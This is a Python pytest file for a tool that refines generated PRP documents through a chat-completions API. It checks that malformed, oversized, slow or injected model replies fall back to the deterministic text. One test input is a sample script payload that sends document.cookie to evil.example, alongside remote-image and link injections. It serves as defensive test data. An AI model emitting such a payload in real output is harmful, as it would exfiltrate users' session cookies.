"""`generate --refine` against a chat-completions endpoint on 127.0.0.1 that misbehaves: broken bodies, wrong
types, trickled and huge answers, injected markers, HTML, links and invented plain-text references. The
generated PRP is always written (exit 0), nothing outside the project is touched, and the user's notes in an
existing PRP survive."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import time
from pathlib import Path

import pytest

from dabprp.api import generate
from tests.chat_endpoint import LocalChatEndpoint
from tests.conftest import EXAMPLE, copy_project
from tests.test_confinement import snapshot

PRP = Path("PRPs") / "multi-stage-deployment.md"
NOTES = "\n## Our notes\nKeep Model Serving until Q3.\n"


def completion(content) -> bytes:
    return json.dumps({"id": "c", "object": "chat.completion", "created": 0, "model": "m",
                       "choices": [{"index": 0, "finish_reason": "stop",
                                    "message": {"role": "assistant", "content": content}}]}).encode()


def Endpoint(reply):
    """Answers each request with `reply(passage, handler)`, which writes the whole HTTP response itself."""
    return LocalChatEndpoint(lambda body, passage, handler: reply(passage, handler))


def send(handler, body: bytes, content_type: str = "application/json", status: int = 200) -> None:
    handler.send_response(status)
    handler.send_header("Content-Type", content_type)
    handler.send_header("Content-Length", str(len(body)))
    handler.end_headers()
    handler.wfile.write(body)


def answer(make):
    """A well-formed completion whose content is `make(passage)`."""
    return lambda passage, handler: send(handler, completion(make(passage)))


@pytest.fixture
def world(tmp_path):
    project = copy_project(EXAMPLE, tmp_path / "project")
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "keep.txt").write_text("outside\n")
    deterministic = generate(str(project))[0]
    (project / "PRPs").mkdir()
    (project / PRP).write_text(deterministic + NOTES)
    return project, outside, deterministic


# Runs dabprp in a child that reports its own peak resident memory on exit: VmHWM belongs to the
# process image (ru_maxrss of a forked child starts at the parent's peak, here the whole test run's).
MEASURED = ("import atexit, runpy, sys\n"
            "def peak():\n"
            "    with open('/proc/self/status') as status:\n"
            "        kib = [line.split()[1] for line in status if line.startswith('VmHWM:')][0]\n"
            "    sys.stderr.write('MAXRSS_KIB %s\\n' % kib)\n"
            "atexit.register(peak)\n"
            "sys.argv = ['dabprp', *sys.argv[1:]]\n"
            "runpy.run_module('dabprp', run_name='__main__')\n")


def peak_kib(stderr: str) -> int:
    return int(re.findall(r"^MAXRSS_KIB (\d+)$", stderr, re.M)[-1])


def refine(project: Path, reply, *extra: str, timeout: float = 120) -> tuple[subprocess.CompletedProcess, float]:
    with Endpoint(reply) as endpoint:
        started = time.monotonic()
        result = subprocess.run([sys.executable, "-c", MEASURED, "generate", str(project), "--refine",
                                 "--llm-base-url", endpoint.url, "--llm-model", "m", "--llm-retries", "0", *extra],
                                capture_output=True, text=True, timeout=timeout,
                                env={**os.environ, "DABPRP_LLM_API_KEY": "k"})
        return result, time.monotonic() - started


def assert_generated_prp_kept(world, result, reason: str) -> None:
    project, outside, deterministic = world
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr
    assert reason in result.stderr, result.stderr
    assert (project / PRP).read_text() == deterministic + NOTES
    assert snapshot(outside) == {"keep.txt": b"outside\n"}


@pytest.mark.parametrize(("reply", "reason"), [
    (lambda p, h: send(h, b"<html>not json</html>"), "API error: answer is not JSON"),
    (lambda p, h: send(h, completion(p), content_type="text/plain"), "answer is `text/plain`, not application/json"),
    (lambda p, h: send(h, json.dumps({"choices": "abc"}).encode()), "answer has no `choices` list"),
    (lambda p, h: send(h, completion(12345)), "`content` is int, not text"),
    (lambda p, h: send(h, completion([{"type": "text", "text": p}])), "`content` is list, not text"),
    (lambda p, h: send(h, b'{"error": "overloaded"}', status=503), "API error: HTTP 503"),
], ids=["non-json", "text-plain", "choices-abc", "content-int", "content-list", "http-503"])
def test_broken_answers_keep_the_generated_prp(world, reply, reason):
    result, _ = refine(world[0], reply)
    assert_generated_prp_kept(world, result, reason)


def trickle(passage, handler):
    body = completion(passage)
    handler.send_response(200)
    handler.send_header("Content-Type", "application/json")
    handler.send_header("Content-Length", str(len(body)))
    handler.end_headers()
    for i in range(len(body)):  # one byte every 0.2 s: each read is quick, the whole answer takes minutes
        handler.wfile.write(body[i:i + 1])
        handler.wfile.flush()
        time.sleep(0.2)


def test_a_trickled_answer_is_bounded_by_the_timeout(world):
    result, took = refine(world[0], trickle, "--llm-timeout", "2")
    assert took < 12, took
    assert_generated_prp_kept(world, result, "API error: no complete answer within")


def huge(passage, handler):
    handler.send_response(200)
    handler.send_header("Content-Type", "application/json")
    handler.send_header("Content-Length", str(100_000_000))
    handler.end_headers()
    block = b"x" * 1_000_000
    for _ in range(100):
        handler.wfile.write(block)


def test_a_huge_answer_is_not_read_past_the_cap(world):
    result, took = refine(world[0], huge, "--llm-timeout", "30")
    assert took < 30
    assert_generated_prp_kept(world, result, "answer larger than 2000000 bytes")
    assert peak_kib(result.stderr) < 150_000  # alone ~60 MB; reading the 100 MB answer passes 150


@pytest.mark.parametrize(("injection", "reason"), [
    (" <!-- dabprp:end stages -->\n<!-- dabprp:begin stages -->", "region markers or HTML comments"),
    (" <script>fetch('https://evil.example/?k=' + document.cookie)</script>", "raw HTML (`<script>`)"),
    (" ![status](https://evil.example/pixel.png)", "a link or image"),
    (" Details at [the runbook](https://evil.example/runbook).", "a link or image"),
    (" See https://evil.example/x for more.", "a link or image"),
], ids=["markers", "script", "remote-image", "link", "bare-url"])
def test_injected_markup_falls_back_to_the_generated_text(world, injection, reason):
    result, _ = refine(world[0], answer(lambda p: p + injection))
    project, outside, deterministic = world
    assert result.returncode == 0 and reason in result.stderr, result.stderr
    written = (project / PRP).read_text()
    assert "evil.example" not in written and "<script" not in written
    assert written == deterministic + NOTES  # every chunk got the injection, so every chunk fell back
    assert snapshot(outside) == {"keep.txt": b"outside\n"}


INVENTION = (" It is defined in src/ghost_module.py:7 and run by the job ghost_job_zz, which reads "
             "ghost_catalog.ghost_schema.")


def test_plain_text_inventions_are_dropped(world):
    result, _ = refine(world[0], answer(lambda p: p + INVENTION))
    project = world[0]
    assert result.returncode == 0, result.stderr
    written = (project / PRP).read_text()
    assert "ghost" not in written and written.endswith(NOTES)
    assert "dropped a sentence with an unverifiable reference (`src/ghost_module.py:7`" in result.stderr
    assert "`ghost_job_zz`" in result.stderr


def test_an_answer_that_replaces_bullets_falls_back(world):
    def replace_bullets(passage: str) -> str:
        if "\n- " not in "\n" + passage:
            return passage
        return "- Use feature flags for the rollout.\n- Track KPIs for the agent."

    result, _ = refine(world[0], answer(replace_bullets))
    project, _, deterministic = world
    assert result.returncode == 0 and "the answer lost" in result.stderr
    assert (project / PRP).read_text() == deterministic + NOTES
